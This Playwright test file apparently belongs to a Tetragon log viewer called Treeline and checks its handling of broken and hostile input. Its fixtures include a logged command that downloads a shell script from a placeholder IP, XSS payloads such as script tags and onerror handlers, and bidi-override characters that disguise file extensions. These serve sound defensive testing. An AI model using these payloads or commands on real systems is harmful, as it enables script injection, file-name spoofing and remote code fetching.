import { gzipSync } from 'node:zlib'
import { drawLog } from '../src/testing/draw-log'
import { expect, test } from './helpers/test'
import type { Viewer } from './helpers/viewer'

const good = drawLog(`
  pod default/xwing container 1fb931d2 node n1
    10 /bin/bash 0s..9s
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 1s..2s exit 22
`)

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)

/** The page still works: a good log can be opened beside what could not be read. */
async function expectGoodLogOpens(viewer: Viewer): Promise<void> {
  await viewer.dropFiles({ name: 'good.log', content: good.text })
  await expect(viewer.status).toContainText('2 processes')
  await viewer.waitForIdle()
  await expect(viewer.row('/usr/bin/curl -s')).toBeVisible()
  await viewer.selectRow('/usr/bin/curl -s')
  await expect(viewer.details).toContainText('exit 22')
}

test('what is no log is called what it is, and a good log opens after it', async ({ viewer, folder }) => {
  const files = {
    'empty.log': '',
    'diary.txt': 'Dear diary,\ntoday nothing ran.\n',
    'photo.log': PNG,
    'other.json': '{"level":"info","msg":"started"}\n{"level":"warn","msg":"slow"}\n',
    'blank.log': '\n\n\n',
    'array.json': '[]',
  }
  await viewer.goto()
  await viewer.openFiles(
    ...(await Promise.all(Object.entries(files).map(([name, content]) => folder.write(name, content)))),
  )
  await expect(viewer.notices).toHaveText([
    /^No Tetragon event was found in array\.json/,
    /^No Tetragon event was found in blank\.log/,
    /^No Tetragon event was found in diary\.txt: 2 lines/,
    /^empty\.log is empty.*--tail=-1/,
    /^No Tetragon event was found in other\.json: 2 lines/,
    /^photo\.log is a PNG image, not a Tetragon log/,
  ])
  await expect(viewer.page.getByText('There is no Tetragon event to show.')).toBeVisible()
  await expectGoodLogOpens(viewer)
})

test('the notice of a bad file can be dismissed, and the way back to the start is offered', async ({ viewer }) => {
  await viewer.goto()
  await viewer.dropFiles({ name: 'empty.log', content: '' })
  await expect(viewer.notices).toHaveCount(1)
  await viewer.button('Dismiss').click()
  await expect(viewer.notices).toHaveCount(0)
  await viewer.button('Back to the start').click()
  await expect(viewer.button('Open the sample')).toBeVisible()
})

test('a cut-off file shows all that is whole and tells of the rest', async ({ viewer, folder }) => {
  const cut = good.text.slice(0, -100)
  await viewer.goto()
  await viewer.openFiles(await folder.write('cut.log', cut))
  await expect(viewer.status).toContainText('2 processes')
  await viewer.status.getByRole('button', { name: /data quality/ }).click()
  const dialog = viewer.page.getByRole('dialog', { name: 'Data quality' })
  await expect(dialog).toContainText('1 bad line')
  await viewer.button('List the bad line').click()
  await expect(dialog).toContainText(`cut.log:${good.lines.length}`)
  await expect(dialog).toContainText('cut off')
})

test('a damaged gzip file shows what came before the damage', async ({ viewer, folder }) => {
  const long = good.text.repeat(400)
  const packed = gzipSync(long, { level: 0 })
  await viewer.goto()
  await viewer.openFiles(await folder.write('cut.log.gz', packed.subarray(0, packed.length * 0.7)))
  await expect(viewer.notices).toContainText(/cut\.log\.gz is damaged after/)
  await expect(viewer.row('/usr/bin/curl -s')).toBeVisible()
})

test('bad lines are counted and listed with file, line number and reason', async ({ viewer, folder }) => {
  const lines = [
    good.lines[0],
    'time="2024-05-01T10:00:00Z" level=info msg="Starting Tetragon"',
    ...good.lines.slice(1, 3),
    '{"process_exec":{"process":{"exec_id":"bjE6',
    '{"level":"info"}',
    ...good.lines.slice(3),
  ]
  await viewer.goto()
  await viewer.openFiles(await folder.write('mixed.log', `${lines.join('\n')}\n`))
  await expect(viewer.status).toContainText('2 processes')
  await viewer.status.getByRole('button', { name: /data quality/ }).click()
  const dialog = viewer.page.getByRole('dialog', { name: 'Data quality' })
  await expect(dialog).toContainText('3 bad lines')
  await viewer.button('List the bad lines').click()
  await expect(dialog.getByRole('list', { name: 'Bad lines' }).getByRole('listitem')).toHaveText([
    /^mixed\.log:2 .*not JSON.*Starting Tetragon/,
    /^mixed\.log:5 .*cut off or malformed/,
    /^mixed\.log:6 .*without a Tetragon event/,
  ])
  await viewer.page.keyboard.press('Escape')
  await expect(dialog).toHaveCount(0)
})

test('a single line of 50 MB is one bad line, and the page goes on', async ({ viewer, folder }) => {
  const monster = Buffer.alloc(50_000_000, 'A')
  monster.write('{"process_exec":{"process":{"arguments":"', 0)
  await viewer.goto()
  await viewer.openFiles(
    await folder.write('monster.log', Buffer.concat([monster, Buffer.from('\n'), Buffer.from(good.text)])),
  )
  await expect(viewer.status).toContainText('2 processes')
  await viewer.status.getByRole('button', { name: /data quality/ }).click()
  const dialog = viewer.page.getByRole('dialog', { name: 'Data quality' })
  await viewer.button('List the bad line').click()
  await expect(dialog).toContainText('monster.log:1')
  await expect(dialog).toContainText('longer than 16 MiB')
  await viewer.page.keyboard.press('Escape')
  await expectGoodLogOpens(viewer)
})

test('what stands in a log is shown as text and never runs', async ({ viewer, folder, page }) => {
  const image = '<img src=x onerror=alert(1)>'
  const script = '<script>alert(2)</script>'
  const bidi = 'evil\u202Etxt.exe'
  const line = (pid: number, binary: string, args: string): string =>
    JSON.stringify({
      process_exec: {
        process: {
          exec_id: Buffer.from(`n1:${1000 + pid}:${pid}`).toString('base64'),
          pid,
          binary,
          arguments: args,
          flags: 'execve',
          start_time: '2024-05-01T10:00:00.000000000Z',
          pod: {
            namespace: '<b>bold</b>',
            name: '"><svg onload=alert(3)>',
            container: { id: 'containerd://abc123', name: '<u>c</u>', image: { name: image } },
          },
          docker: 'abc123',
        },
      },
      node_name: '<i>node</i>',
      time: '2024-05-01T10:00:00.000000000Z',
    })
  await viewer.goto()
  const path = await folder.write(
    `${'<img onerror=alert(4) src=y>'.replaceAll('/', '')}.log`,
    [line(10, image, script), line(11, `/bin/${bidi}`, 'javascript:alert(5)'), '<img src=z onerror=alert(6)>'].join(
      '\n',
    ),
  )
  await viewer.openFiles(path)
  await expect(viewer.row(image)).toBeVisible()
  await expect(viewer.row('<b>bold</b>')).toBeVisible()
  await viewer.selectRow(image)
  await expect(viewer.details.getByRole('heading', { level: 2 })).toHaveText(image)
  await expect(viewer.details).toContainText(script)
  await page.getByRole('tab', { name: 'Raw JSON' }).click()
  await expect(page.getByRole('tabpanel')).toContainText(script)
  await viewer.status.getByRole('button', { name: /data quality/ }).click()
  await viewer.button('List the bad line').click()
  await expect(page.getByRole('dialog')).toContainText('<img src=z onerror=alert(6)>')
  await page.keyboard.press('Escape')
  await viewer.selectRow(`/bin/evil`)

  // no element was made from the log, and nothing could run: the watch of every test fails on a dialog
  await expect(
    page.locator('#root').locator('img, script, b:has-text("bold"), svg[onload], u, i:has-text("node")'),
  ).toHaveCount(0)
})

test('a name from right to left changes places with nothing, and what nobody would see is named alike in all panes', async ({
  viewer,
  folder,
}) => {
  const log = drawLog(`
    host n1
      10 /bin/قهوة قهوة\u001b\u202e شاي 0s..1s
        11 /bin/true 0s..1s
  `)
  await viewer.goto()
  await viewer.openFiles(await folder.write('rtl.log', log.text))
  await viewer.selectRow('/bin/قهوة')
  const shown = 'قهوة[U+001B][U+202E] شاي'
  await expect(viewer.row('/bin/قهوة')).toContainText(shown)
  await expect(viewer.details.locator('.args')).toContainText(shown)
  const event = viewer.events.getByRole('option').first()
  await expect(event).toContainText(shown)
  // the fields of a line begin one after the other
  const begins = await event
    .locator('> span')
    .evaluateAll((fields) => fields.map((field) => field.getBoundingClientRect().left))
  expect(begins).toEqual(begins.toSorted((a, b) => a - b))
  expect(begins.length).toBeGreaterThan(3)
})

test('a bidi control cannot turn the name of a program around', async ({ viewer, folder, page }) => {
  const bidi = drawLog(`
    host n1
      10 /tmp/report\u202Efdp.exe 0s..1s
      11 /bin/true 0s..1s
  `)
  await viewer.goto()
  await viewer.openFiles(await folder.write('bidi.log', bidi.text))
  // either shown as a visible code or kept in a direction of its own, so that what follows it is not reordered
  const row = viewer.row('/tmp/report')
  await expect(row).toBeVisible()
  const isContained = await row
    .getByRole('gridcell')
    .first()
    .evaluate((cell) => {
      const walker = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT)
      for (let node = walker.nextNode(); node !== null; node = walker.nextNode()) {
        if (!(node.textContent ?? '').includes('\u202E')) continue
        const { unicodeBidi, display } = getComputedStyle(node.parentElement!)
        const isIsolated = /isolate|plaintext/.test(unicodeBidi) || /block|flex|grid/.test(display)
        if (!isIsolated) return false
      }
      return true
    })
  expect(isContained).toBe(true)
  expect(await page.title()).toBe('Treeline')
})
